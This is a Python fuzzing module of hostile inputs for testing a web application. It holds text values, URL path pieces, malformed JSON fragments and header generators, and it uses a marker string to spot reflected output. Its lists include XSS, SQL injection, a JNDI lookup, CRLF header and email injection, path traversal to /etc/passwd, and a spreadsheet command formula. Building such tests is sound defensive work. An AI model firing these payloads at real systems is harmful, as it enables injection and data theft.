"""Values that nobody means well with. Each of them has broken some program."""

from __future__ import annotations

from random import Random
from urllib.parse import quote

MARK = "i7x"
"""Stands in values and in no page of ours, so that an echo is found."""
UNESCAPED = (b"<i7x", b'"i7x=', b"'i7x=", b'href="javascript:i7x')
"""What the marked texts look like where a page let them through."""
LONG = "A" * 60_000

TEXTS = (
    "",
    " ",
    "\x00",
    "i7x\x00i7x",
    "\x01\x02\x1f\x7f\x80\x9f",
    "\r\nSet-Cookie: i7x=1\r\n\r\n<i7x>",
    "\n",
    "\t",
    "\u202ei7x\u202c\u2066",  # turns the direction of writing
    "\u200b\ufeff\u2028\u2029",
    "\ufffe\uffff\ufdd0",  # no characters, but encodable
    "\U0001f9b4" * 50,
    "\U0010ffff",
    "Z\u0334\u0321\u030a" * 40,
    "\u0130\ufb03\u1e9e\u0345",  # change their length with their case
    "\u0663\u0664\u0665",  # digits elsewhere
    "<i7x>",
    '"i7x=1',
    "'i7x=1",
    "</script><i7x>",
    "--><i7x>",
    "javascript:i7x",
    "{{7*7}}i7x{%raise%}",
    "${jndi:ldap://i7x.example/a}",
    "%s%n%d{0}{i7x.__class__}",
    "'; DROP TABLE topics; --i7x",
    "i7x' OR '1'='1",
    "../../../../etc/passwd",
    "..\\..\\i7x",
    "/etc/passwd",
    "//i7x.example/",
    "\\\\i7x.example\\",
    "https://i7x.example/",
    "http://[i7x",
    "file:///etc/passwd",
    "i7x@i7x",
    "i7x@mail.example\r\nBcc: all@mail.example",
    '"i7x=1"@mail.example, other@mail.example',
    "=cmd|'/c i7x'!A1",
    "9" * 400,
    "-1",
    "1e999",
    "NaN",
    "Infinity",
    "null",
    "true",
    "0x1f",
    "1_000",
    "[]",
    "{}",
    "*",
    '"*"',
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.999999Z",
    "0001-01-01T00:00:00+14:00",
    "2026-02-30T25:61:61Z",
    "0000-00-00",
    "2026-03-08T02:30",  # does not exist in Denver
    "-271821-04-20T00:00:00Z",
    "Mars/Olympus_Mons",
    "../zoneinfo/UTC",
    "America",
    "FREQ=SECONDLY;INTERVAL=0",
    "FREQ=YEARLY;BYMONTHDAY=31;BYMONTH=2;BYSETPOS=-1",
    "00000000-0000-0000-0000-000000000000",
    "{00000000-0000-0000-0000-00000000000\u0661}",
    "urn:uuid:00000000000000000000000000000000",
    "AAAAAAAAAAAAAAAAAAAAAA",
    "=" * 9,
    "i7x" * 1000,
)
"""What can stand wherever text can."""

_PATH_PIECES = (
    "%00",
    "%2e%2e",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..",
    "%252e%252e",
    "%c0%ae%c0%ae",  # longer than need be
    "%ff%fe",
    "%ed%a0%80",  # half a character
    "%f8%88%80%80%80",
    "%",
    "%zz",
    "%5c%5ci7x.example",
    "%0d%0aSet-Cookie:i7x",
    "%3ci7x%3e",
    "%22i7x%3d",
    "i7x;a=b",
    "*",
    "%20",
    "%2f",
    "%23%3f",
    "a" * 300,
    "i7x" * 1500,
    "0",
    "-1",
    "new",
    "import",
    "%d9%a0" * 32,  # digits, as some readers of ids would have it
)

FRAGMENTS = (
    "null",
    "true",
    "false",
    "0",
    "-0",
    "-1",
    "3",
    "0.1",
    "1.0",
    "1e308",
    "1e999",
    "-1e999",
    "1E-400",
    "9223372036854775808",
    "18446744073709551616",
    "1" * 400,
    "1" * 5000,
    "NaN",
    "Infinity",
    "-Infinity",
    "[]",
    "{}",
    "[null]",
    '[{"i":"i7x"}]',
    '{"i":{"i":{"i":"i7x"}}}',
    "[" * 200 + "]" * 200,
    '{"i":' * 100 + "1" + "}" * 100,
    '"\\ud800"',
    '"\\udc00i7x"',
    '"\\ud800\\u0041"',
    '"\\u0000"',
    '"\\x41"',
    '"i7x\\',
    "tru",
    "01",
    ".5",
    "+1",
    "0x10",
    "'i7x'",
    "undefined",
    "",
    ",",
    "/*i7x*/1",
    '["' + '","'.join(map(str, range(600))) + '"]',
    '{"1":1,"1":2}',
)
"""Values as they stand in JSON, or fail to."""


def text(chance: Random) -> str:
    """A text that can be encoded."""
    if chance.random() < 0.003:
        return LONG
    if chance.random() < 0.2:
        return "".join(chr(chance.choice((chance.randrange(0xD800), chance.randrange(0x20, 0x7F)))) for _ in range(12))
    return chance.choice(TEXTS)


def percent(value: str) -> str:
    """A text as it stands in a path or a query."""
    return quote(value[:4000], safe="")


def path_piece(chance: Random) -> str:
    """What stands between two slashes where an id or a short name belongs."""
    return chance.choice(_PATH_PIECES) if chance.random() < 0.6 else percent(text(chance)) or "%20"


def header(chance: Random) -> bytes:
    """A header's value: whatever a server lets through, which is all but control characters."""
    kind = chance.random()
    if kind < 0.2:
        return bytes(chance.choice((9, *range(0x20, 0x7F), *range(0x80, 0x100))) for _ in range(chance.randrange(40)))
    if kind < 0.25:
        return b"i7x" * 1500
    plain = "".join(character for character in text(chance)[:4000] if character.isprintable())
    return plain.encode()
